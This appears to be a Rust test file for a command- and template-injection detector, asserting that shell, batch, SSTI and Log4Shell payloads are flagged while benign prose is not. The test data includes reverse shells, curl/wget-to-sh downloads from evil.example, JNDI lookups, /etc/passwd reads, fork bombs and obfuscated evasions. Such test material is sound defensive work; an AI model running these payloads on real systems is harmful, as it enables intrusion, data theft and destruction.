//! Command and template injection through the public API, in every encoding.
mod support;

use sluice_detect::{Category, Detector, InputKind};
use support::{assert_clean, assert_found_everywhere, rule_ids};

#[test]
fn shell_separators_and_substitution() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "; cat /etc/passwd",
            "| id",
            "&& whoami",
            "|| ping -c 10 127.0.0.1",
            "127.0.0.1; ls -la",
            "; sleep 10",
            "$(whoami)",
            "`id`",
            "& dir c:\\",
            "| type C:\\Windows\\win.ini",
            "& net user",
            "; /bin/bash -c \"id\"",
        ],
    );
}

#[test]
fn shell_evasions() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "a; u''name -a",
            ";c'a't /etc/passwd",
            ";w\"h\"oami",
            "; w\\ho\\am\\i",
            ";{cat,/etc/passwd}",
            ";cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            "/???/c?t /???/p??s??",
            "host=x;c$!at /et$!c/pas$!swd",
        ],
    );
}

#[test]
fn reverse_shells_and_windows() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "| nc -e /bin/sh 10.0.0.1 4444",
            "; python3 -c 'import socket,subprocess,os;s=socket.socket()'",
            "127.0.0.1 && curl http://evil.example/x.sh | sh",
            "|| wget -qO- http://evil.example/m | bash",
            "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
            "& cmd /c whoami",
        ],
    );
}

#[test]
fn template_injection_and_log4shell() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
        ],
    );
}

#[test]
fn rule_ids_are_specific() {
    let d = Detector::new();
    assert!(
        rule_ids(&d, ";{cat,/etc/passwd}", Category::Cmdi).contains(&"cmdi-evasion".to_string())
    );
    assert!(rule_ids(&d, "$(whoami)", Category::Cmdi).contains(&"cmdi-subshell".to_string()));
    assert!(rule_ids(&d, "{{7*7}}", Category::Cmdi).contains(&"cmdi-ssti".to_string()));
    assert!(
        rule_ids(
            &d,
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            Category::Cmdi
        )
        .contains(&"cmdi-jndi".to_string())
    );
}

#[test]
fn prose_about_shells_is_clean() {
    assert_clean(
        Category::Cmdi,
        &[
            "Tom & Jerry",
            "rock & roll; then we left",
            "use `ls` to list files",
            "Run `ls -la` to see hidden files.",
            "$5 or $10",
            "C:\\Users\\me\\Documents",
            "cat videos | funny",
            "Cats & dogs; fish & chips; salt & pepper.",
            "My cat is called Bash and my dog is called Curl.",
            "Sleep is important; so is exercise.",
            "Prefer $(command) over backticks in new scripts, it nests better.",
            "Pipe the output through grep and sort | uniq -c for counts.",
            "Please don't shell out to `sh -c` with user input; use Command::new with args.",
            "{{ name }} is replaced by the template engine with the user's name.",
            "Total = ${price} * ${quantity}",
            "| id | name | email |\n|----|------|-------|",
            "{\"id\": 5, \"type\": \"dir\", \"hostname\": \"web-1\"}",
            "GET /users/{id} returns the user",
            "Q&A session at 3pm; AT&T customer service",
            "x < y && y > z",
            "Why not `unwrap_or_default()` here?",
            "He said: curl up with a book; sleep well",
        ],
    );
}

#[test]
fn windows_batch_conditions() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "IF EXIST C:\\temp\\x.bat CALL C:\\temp\\x.bat",
            "if /i \"%USERNAME%\"==\"admin\" del /q C:\\data",
            "if %ERRORLEVEL% GEQ 1 exit /b 1",
            "IF NOT DEFINED TEMP (",
            "x & if [%2]==[] goto usage",
            "FOR /F %%f IN (users.txt) DO net user %%f /delete",
        ],
    );
}

#[test]
fn wrappers_splices_and_command_lines() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "nohup nc -lvp 4444",
            "'w'get http://evil.example/a.sh",
            "wh``oami",
            "who$()ami",
            "cu$@rl http://evil.example/x",
            "c{a,u}t /etc/hosts",
            "{,uname,-a}",
            "alias ls='rm -rf /'",
            "() { :; }; /bin/bash -c id",
            "x;htop",
            "$SHELL -c 'id'",
            "a;$x cat /etc/hosts",
            "python3.11 -c 'import os'",
            "x; kubectl get secrets",
            "a; curl evil.example",
            "time wget http://evil.example/x.sh",
        ],
    );
}

#[test]
fn shell_grammar_beyond_separators() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            // Variables assembled into a command line.
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "x=nc;$x -lvp 4444",
            "t=usera[d]d;$t bob",
            "|$z wget evil.example",
            // Globs naming a sensitive file or a program.
            "/etc/[!x]asswd",
            "/usr/bin/[w]hoami",
            "/usr/[a-c]in/bash",
            // Process substitution, argv lists, fork bombs.
            "<(cat notes)",
            ">(tee out)",
            ";c99 -wrapper sh,-c,id .",
            "g(){ g | g & };g",
            "g(){ g() & g(); }; g",
            // cmd.exe conditions.
            "if /i \"%1\"==\"x\" goto end",
            "IF \"%~1\"==\"\" exit",
            "if [%%A]==[x] echo",
            "IF ERRORLEVEL 1 IF NOT ERRORLEVEL 3 exit",
            // Tool jargon alone after a separator, quote-split names.
            "x; ssh-copy-id",
            "done; visudo",
            "'c'url localhost",
            "\"n\"map example",
            // Brace expansions hiding the command, arithmetic, globs.
            "{,uname,-a}",
            "{/?i?/c?t,/etc/hosts}",
            "$[3*7]",
            ";cat /e't'*/sh'?d'ow",
            "{n$x\\c$x,-lvp,4444}",
            "`cut abc``dig x`",
            "${::-x$}{jndi:ldap://evil.example/a}",
            "x | python3.12",
            "cmd=t=usera[d]d;$t bob",
            "${HOME#{}/}",
            "${f%%.*}",
            "$(( $(id) + 1 ))",
            "x&bcdedit/v now",
            "<a probe=\"{l,-lh}s\">",
        ],
    );
}

#[test]
fn prose_near_shell_grammar_is_clean() {
    assert_clean(
        Category::Cmdi,
        &[
            "x = 5; y = x + 1",
            "price=10&qty=$total",
            "see /docs/[id]/page.tsx",
            "emoticons like <(^_^)> and >(which is odd)",
            "if a==b then swap",
            "That's two \"O\"s in goose",
            "O'keefe's",
            "Time; management matters",
            "f(x) { return x | y; }",
            "render() { a | b; }",
            "50% off if score==100% today",
            "$[0] and $['store'] select JSONPath nodes",
            "**bold** and 2*3 = 6",
            "Upgrade to python3.12 for speed",
            "US$5 or pa$sword",
            "${price} and ${user.name}",
            "and/or tar/gz",
            "/* old layout */ is still in the CSS file",
            "/* explains the algorithm */",
            "see /docs/*/index and /* notes */",
        ],
    );
}

#[test]
fn mail_protocol_commands_after_crlf() {
    assert_found_everywhere(
        Category::Cmdi,
        &[
            "x\r\nQUIT",
            "x\r\nRETR 2",
            "x\r\nTOP 1 2",
            "x\r\nA7 store 1:3 +FLAGS (\\Deleted)\r\n",
        ],
    );
}

#[test]
fn prose_near_new_grammar_is_clean() {
    assert_clean(
        Category::Cmdi,
        &[
            "if you want, == is the equality operator",
            "if x == y then return",
            "if (a == b) { return; }",
            "If exists, we will call you back.",
            "Python developer jobs in Berlin",
            "python developer jobs",
            "docker tutorial for beginners",
            "time management tips",
            "nice cat pictures",
            "watch top movies",
            "alias: John Smith",
            "~5 minutes",
            "Help\r\nThanks",
            "Pick one of {x,y} or {a,b}",
            "time who knows",
            "Time: 5 minutes; top speed 30 km/h",
            "```sh\ncargo build --release\n```",
            "see `cargo fmt` and `cargo clippy`",
            "pip install is the usual way to add it",
            "htop",
            "IF you need help, call us",
            "time: 5pm",
            "env var PATH is set",
            "exec summary attached",
            "alias Bob Smith",
            "Kubectl Get Pods",
            "Questions; ping us at help.example.com",
            "Thanks; ping me later",
        ],
    );
}

/// A value that is one whole command line is reported where it is a
/// parameter (a query or form field, a JSON value, a header), which an
/// application may hand to a shell, and not in free text (a message, a
/// document), which quotes command lines to show them.
#[test]
fn whole_command_lines_are_parameters_not_text() {
    let detector = Detector::new();
    for line in [
        "sudo -u www-data id",
        "pip install evil-package",
        "kubectl get secrets -A",
        "aa-enforce nginx-profile",
        "env --version",
        "ansible-vault decrypt secret",
        "time wget evil.example",
    ] {
        let json = serde_json::json!({ "cmd": line }).to_string();
        let form = format!("cmd={}", line.replace(' ', "+"));
        for (input, kind) in [
            (form.as_str(), InputKind::Query),
            (form.as_str(), InputKind::Form),
            (json.as_str(), InputKind::Json),
            (json.as_str(), InputKind::Auto),
            (line, InputKind::Header),
        ] {
            let v = detector.scan_as(input.as_bytes(), kind);
            assert!(
                v.threat && v.findings.iter().any(|f| f.rule_id == "cmdi-command-line"),
                "{input:?} as {kind:?}: {:?}",
                v.findings
            );
        }
        for kind in [InputKind::Auto, InputKind::Text] {
            let v = detector.scan_as(line.as_bytes(), kind);
            assert!(!v.threat, "{line:?} as {kind:?}: {:?}", v.findings);
        }
    }
    // Hostile content and separators count in free text too.
    for text in [
        "cat /etc/passwd",
        "nc -e /bin/sh 203.0.113.7 4444",
        "x; kubectl get secrets",
        "whoami",
        "tar -xzf release.tar.gz -C /opt/app; curl evil.example/x | sh",
    ] {
        assert!(
            detector.scan_as(text.as_bytes(), InputKind::Text).threat,
            "{text:?}"
        );
    }
    assert!(
        !detector
            .scan(b"tar -xzf release-2.4.1.tar.gz -C /opt/app --strip-components=1")
            .threat
    );
}
